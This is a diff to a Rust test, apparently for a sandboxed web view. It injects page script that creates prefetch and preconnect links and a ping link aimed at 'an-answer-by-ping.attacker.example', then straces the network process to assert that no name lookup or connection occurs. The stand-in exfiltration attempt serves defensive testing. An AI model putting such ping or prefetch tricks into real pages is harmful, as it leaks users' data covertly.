@@ -351,8 +351,8 @@ fn a_start_that_the_system_will_not_confine_is_refused_unless_asked_for_by_name(
     environment.picture("43-shipped-unconfined");
 }
 
-/// A page that is tampered with could hide an answer in a name that is looked up: a preconnect is
-/// held back by no policy of the page.
+/// A page that is tampered with could hide an answer in a name that is looked up ahead, which no
+/// policy of the page holds back.
 #[test]
 fn a_name_in_the_page_is_looked_up_by_nobody() {
     let environment = TestEnvironment::new();
@@ -363,12 +363,15 @@ fn a_name_in_the_page_is_looked_up_by_nobody() {
     let network = network.expect("the web view has a process for the network").to_string();
     let trace = environment.home().join("trace");
     let mut tracer = environment.command("strace");
-    tracer.args(["-f", "-qq", "-p", &network, "-e", "trace=connect,sendto,sendmsg,openat", "-o"]);
-    let mut tracer = tracer.arg(&trace).spawn().unwrap();
+    tracer.args(["-f", "-qq", "-s", "4096", "-p", &network, "-o"]).arg(&trace);
+    tracer.args(["-e", "trace=connect,sendto,sendmsg,openat,recvmsg"]);
+    let mut tracer = tracer.spawn().unwrap();
     wait_for(
         || "the tracer".to_owned(),
         || (status(network.parse().unwrap(), "TracerPid") != "0").then_some(()),
     );
+    // What is stored goes to the same process after what the links ask of it, and once more when
+    // it had time to act.
     window.ask(
         "for (const rel of ['dns-prefetch', 'preload', 'prefetch', 'preconnect']) {\
            const link = document.createElement('link');\
@@ -380,16 +383,16 @@ fn a_name_in_the_page_is_looked_up_by_nobody() {
          link.href = '#';\
          link.ping = 'https://an-answer-by-ping.attacker.example';\
          document.body.append(link);\
-         link.click();",
+         link.click();\
+         localStorage.setItem('heard-at-once', '1');\
+         setTimeout(() => localStorage.setItem('heard-after-a-while', '1'), 2000);",
         &[],
     );
     let traced = || std::fs::read_to_string(&trace).unwrap_or_default();
-    // The web view turns to the proxy that is not there.
-    wait_for(
-        || format!("an attempt\n{}", traced()),
-        || traced().contains("htons(9)").then_some(()),
-    );
-    for sign in ["nscd", "htons(53)", "/etc/hosts", "resolve", "avahi"] {
+    for mark in ["heard-at-once", "heard-after-a-while"] {
+        wait_for(|| format!("{mark}\n{}", traced()), || traced().contains(mark).then_some(()));
+    }
+    for sign in ["nscd", "htons(", "/etc/hosts", "resolve", "avahi"] {
         assert!(!traced().contains(sign), "a name was looked up ({sign}):\n{}", traced());
     }
     kill(&tracer.id().to_string());
